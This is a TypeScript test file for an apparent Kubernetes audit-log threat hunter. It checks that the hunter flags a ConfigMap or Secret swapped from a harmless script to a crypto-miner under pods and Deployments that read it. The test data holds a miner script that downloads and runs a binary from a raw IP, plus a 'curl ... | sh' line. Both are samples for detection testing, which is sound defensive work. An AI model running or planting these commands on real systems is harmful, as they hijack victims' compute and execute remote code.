// A script swap: a pod is created reading a harmless `run.sh` from a ConfigMap (judged clean), and
// the ConfigMap is then changed to a miner. The pod runs it on its next start (a mounted ConfigMap
// is even refreshed in place), while the ConfigMap alone is only data. Found by attacking
// `kfguard audit`; silent before: the change is now judged against the workloads that read it.
import assert from 'node:assert/strict';
import { describe, test } from 'node:test';
import { huntAuditLogs } from '../../src/audit/hunt-logs.js';
import type { AuditHuntLimits } from '../../src/audit/hunt-log.js';
import { ALL_RULES } from '../../src/rules/index.js';
import { auditEvent, jsonLines } from './events.js';

const threatRules = ALL_RULES.filter((rule) => rule.meta.sources.includes('audit') && rule.meta.category === 'threat');
const NS = 'team-a';
const configMap = (script: string) => ({ apiVersion: 'v1', kind: 'ConfigMap', metadata: { name: 'boot', namespace: NS }, data: { 'run.sh': script } });
const pod = { apiVersion: 'v1', kind: 'Pod', metadata: { name: 'trainer', namespace: NS }, spec: { containers: [{ name: 'main', image: 'tensorflow/tensorflow:2.15.0', command: ['sh', '/boot/run.sh'], volumeMounts: [{ name: 'b', mountPath: '/boot' }] }], volumes: [{ name: 'b', configMap: { name: 'boot' } }] } };
// No listed pool and no wallet: a renamed miner from a raw IP, pointed at a host:port.
const MINER = '#!/bin/sh\ncurl -s http://45.9.148.21/d -o /tmp/dns-filter && chmod +x /tmp/dns-filter && /tmp/dns-filter --url 45.9.148.21:3333 --cpu-max-threads-hint=60\n';

async function hunt(events: readonly unknown[], limits: Partial<AuditHuntLimits> = {}) {
  const text = Buffer.from(jsonLines(events));
  async function* chunks(): AsyncGenerator<Buffer> {
    yield text;
  }
  return huntAuditLogs([{ chunks: chunks(), display: 'swap.log' }], { rules: threatRules, limits });
}

describe('audit: a ConfigMap changed under a workload that runs it', () => {
  const events = [
    auditEvent({ verb: 'create', resource: 'configmaps', namespace: NS, name: 'boot', auditID: 'cm-create', requestObject: configMap('#!/bin/sh\npython train.py\n') }),
    auditEvent({ verb: 'create', resource: 'pods', namespace: NS, name: 'trainer', auditID: 'pod-create', requestObject: pod }),
    auditEvent({ verb: 'update', resource: 'configmaps', namespace: NS, name: 'boot', auditID: 'cm-swap', user: 'eve@example.com', requestObject: configMap(MINER) }),
  ];

  test('the pod is judged again with the new script; the finding names the request that changed it', async () => {
    const result = await hunt(events);
    assert.deepEqual(result.errors, []);
    const [finding, ...more] = result.findings;
    assert.equal(more.length, 0, JSON.stringify(result.findings.map((f) => f.resource)));
    assert.equal(finding?.ruleId, 'crypto-miner-workload');
    assert.equal(finding?.severity, 'critical');
    assert.deepEqual([finding?.resource.kind, finding?.resource.name], ['Pod', 'trainer']);
    assert.equal((finding?.origin as { auditID?: string; user?: string }).auditID, 'cm-swap');
    assert.equal((finding?.origin as { auditID?: string; user?: string }).user, 'eve@example.com');
    assert.match(finding?.evidence.join('\n') ?? '', /judged again: ConfigMap team-a\/boot, which it reads, was changed by this request/);
  });

  test('a deleted pod reads nothing any more; a reader over the budget is a warning, not silence', async () => {
    const deleted = await hunt([events[0], events[1], auditEvent({ verb: 'delete', resource: 'pods', namespace: NS, name: 'trainer' }), events[2]]);
    assert.deepEqual(deleted.findings, []);
    const tight = await hunt(events, { maxConfigReaderBytes: 64 });
    assert.deepEqual(tight.findings, []);
    assert.ok(tight.warnings.some((w) => /1 workload\(s\) reading ConfigMaps or Secrets not kept .*not judged against them/.test(w)), JSON.stringify(tight.warnings));
    // rev12 review: a budget of 0 keeps none, and says so too.
    const none = await hunt(events, { maxConfigReaderBytes: 0 });
    assert.deepEqual(none.findings, []);
    assert.ok(none.warnings.some((w) => /^1 workload\(s\) reading ConfigMaps or Secrets not kept \(over 0 bytes\)/.test(w)), JSON.stringify(none.warnings));
  });
});

// rev12 review: the ways a workload reads what is swapped, a ConfigMap created after the pod, and
// the per-ConfigMap cap on kept readers.
describe('audit: a ConfigMap or Secret changed under a workload, every way of reading it', () => {
  const podReading = (name: string, spec: Record<string, unknown>) => ({ apiVersion: 'v1', kind: 'Pod', metadata: { name, namespace: NS }, spec });
  const runs = { name: 'main', image: 'tensorflow/tensorflow:2.15.0', command: ['sh', '/boot/run.sh'], volumeMounts: [{ name: 'b', mountPath: '/boot/run.sh', subPath: 'run.sh' }] };
  const secret = (script: string) => ({ apiVersion: 'v1', kind: 'Secret', metadata: { name: 'boot', namespace: NS }, stringData: { 'run.sh': script } });
  const cases: { readonly what: string; readonly pod: unknown; readonly swap: (script: string) => unknown; readonly resource: string }[] = [
    { what: 'a projected volume, subPath', pod: podReading('p', { containers: [runs], volumes: [{ name: 'b', projected: { sources: [{ configMap: { name: 'boot' } }] } }] }), swap: configMap, resource: 'configmaps' },
    { what: 'envFrom', pod: podReading('p', { containers: [{ name: 'main', image: 'python:3.12', command: ['sh', '-c', '$RUN'], envFrom: [{ configMapRef: { name: 'boot' } }] }] }), swap: (script) => ({ ...configMap(script), data: { RUN: script } }), resource: 'configmaps' },
    { what: 'valueFrom.configMapKeyRef', pod: podReading('p', { containers: [{ name: 'main', image: 'python:3.12', command: ['sh', '-c', '$(RUN)'], env: [{ name: 'RUN', valueFrom: { configMapKeyRef: { name: 'boot', key: 'RUN' } } }] }] }), swap: (script) => ({ ...configMap(script), data: { RUN: script } }), resource: 'configmaps' },
    { what: 'a Secret volume written with stringData', pod: podReading('p', { containers: [runs], volumes: [{ name: 'b', secret: { secretName: 'boot' } }] }), swap: secret, resource: 'secrets' },
  ];
  for (const { what, pod: reader, swap, resource } of cases) {
    test(`${what}: created after the pod, then swapped for a miner`, async () => {
      const result = await hunt([
        auditEvent({ verb: 'create', resource: 'pods', namespace: NS, name: 'p', requestObject: reader }),
        auditEvent({ verb: 'create', resource, namespace: NS, name: 'boot', requestObject: swap('#!/bin/sh\npython train.py\n') }),
        auditEvent({ verb: 'update', resource, namespace: NS, name: 'boot', auditID: 'swap', requestObject: swap(MINER) }),
      ]);
      const found = result.findings.filter((f) => f.resource.kind === 'Pod');
      assert.deepEqual(found.map((f) => [f.ruleId, f.resource.name, (f.origin as { auditID?: string }).auditID]), [['crypto-miner-workload', 'p', 'swap']], JSON.stringify(result.findings.map((f) => [f.ruleId, f.resource])));
    });
  }

  const reader = (name: string, volumes: unknown[]) => ({ ...pod, metadata: { name, namespace: NS }, spec: { ...pod.spec, volumes } });
  const create = (name: string, volumes: unknown[]) => auditEvent({ verb: 'create', resource: 'pods', namespace: NS, name, requestObject: reader(name, volumes) });

  test('more readers than a ConfigMap keeps: the newest are judged again and the cut is a warning', async () => {
    const pods = Array.from({ length: 11 }, (_, i) => create(`r${i}`, [{ name: 'b', configMap: { name: 'boot' } }]));
    const result = await hunt([events0(), ...pods, swapEvent()]);
    const judged = result.findings.filter((f) => f.resource.kind === 'Pod').map((f) => f.resource.name);
    assert.deepEqual(judged.sort(), ['r10', 'r3', 'r4', 'r5', 'r6', 'r7', 'r8', 'r9']);
    assert.ok(result.warnings.some((w) => /^1 change\(s\) to a ConfigMap or Secret read by more than 8 workloads \(first ConfigMap team-a\/boot\) judged against its 8 newest readers only: up to 3 older reader\(s\) not judged again$/.test(w)), JSON.stringify(result.warnings));
    // No change to a crowded ConfigMap, nothing left unjudged: no warning.
    const unchanged = await hunt([events0(), ...pods]);
    assert.ok(!unchanged.warnings.some((w) => /newest readers only/.test(w)), JSON.stringify(unchanged.warnings));
  });

  test('a workload pushed out of one crowded ConfigMap\'s readers still reads its others', async () => {
    const shared = { name: 's', configMap: { name: 'shared' } };
    const crowd = Array.from({ length: 9 }, (_, i) => create(`c${i}`, [shared]));
    const result = await hunt([events0(), create('trainer', [{ name: 'b', configMap: { name: 'boot' } }, shared]), ...crowd, swapEvent()]);
    assert.deepEqual(result.findings.filter((f) => f.resource.kind === 'Pod').map((f) => f.resource.name), ['trainer']);
  });

  function events0() {
    return auditEvent({ verb: 'create', resource: 'configmaps', namespace: NS, name: 'boot', requestObject: configMap('#!/bin/sh\npython train.py\n') });
  }
  function swapEvent() {
    return auditEvent({ verb: 'update', resource: 'configmaps', namespace: NS, name: 'boot', auditID: 'cm-swap', requestObject: configMap(MINER) });
  }
});

// rev12 review: a patch logged without the object it leaves (Request level) is applied to the
// kept state; its line names no ConfigMap, which made the reader be forgotten before the swap.
describe('audit: a workload patched before the ConfigMap it reads is swapped', () => {
  test('a patch that does not touch the volumes leaves the Deployment a reader', async () => {
    const deployment = { apiVersion: 'apps/v1', kind: 'Deployment', metadata: { name: 'trainer', namespace: NS }, spec: { selector: { matchLabels: { app: 't' } }, template: { metadata: { labels: { app: 't' } }, spec: pod.spec } } };
    const patch = { ...auditEvent({ verb: 'patch', resource: 'deployments', apiGroup: 'apps', apiVersion: 'v1', namespace: NS, name: 'trainer', requestObject: { metadata: { annotations: { 'kubectl.kubernetes.io/restartedAt': '2026-01-05T10:00:00Z' } } } }), level: 'Request' };
    const result = await hunt([
      auditEvent({ verb: 'create', resource: 'configmaps', namespace: NS, name: 'boot', requestObject: configMap('#!/bin/sh\npython train.py\n') }),
      auditEvent({ verb: 'create', resource: 'deployments', apiGroup: 'apps', apiVersion: 'v1', namespace: NS, name: 'trainer', requestObject: deployment }),
      patch,
      auditEvent({ verb: 'update', resource: 'configmaps', namespace: NS, name: 'boot', auditID: 'cm-swap', requestObject: configMap(MINER) }),
    ]);
    const found = result.findings.filter((f) => f.resource.kind === 'Deployment');
    assert.deepEqual(found.map((f) => [f.ruleId, f.resource.name, (f.origin as { auditID?: string }).auditID]), [['crypto-miner-workload', 'trainer', 'cm-swap']], JSON.stringify(result.findings.map((f) => [f.ruleId, f.resource, f.evidence])));
  });
});

describe('audit: a re-judged workload worse than its first finding', () => {
  test('the report shows the worse severity and says what it was first', async () => {
    const first = '#!/bin/sh\ncurl -s http://45.9.148.21/d | sh\n';
    const result = await hunt([
      auditEvent({ verb: 'create', resource: 'configmaps', namespace: NS, name: 'boot', auditID: 'cm-create', requestObject: configMap(first) }),
      auditEvent({ verb: 'create', resource: 'pods', namespace: NS, name: 'trainer', auditID: 'pod-create', requestObject: pod }),
      auditEvent({ verb: 'update', resource: 'configmaps', namespace: NS, name: 'boot', auditID: 'cm-swap', requestObject: configMap(MINER) }),
    ]);
    const found = result.findings.filter((f) => f.resource.kind === 'Pod' && f.ruleId === 'crypto-miner-workload');
    assert.equal(found.length, 1, JSON.stringify(result.findings.map((f) => [f.ruleId, f.severity])));
    assert.equal(found[0]?.severity, 'critical');
    assert.equal((found[0]?.origin as { auditID?: string }).auditID, 'cm-swap');
    assert.match(found[0]?.evidence.join('\n') ?? '', /first judged (high|medium|low) at .*\(auditID pod-create\)/);
  });
});
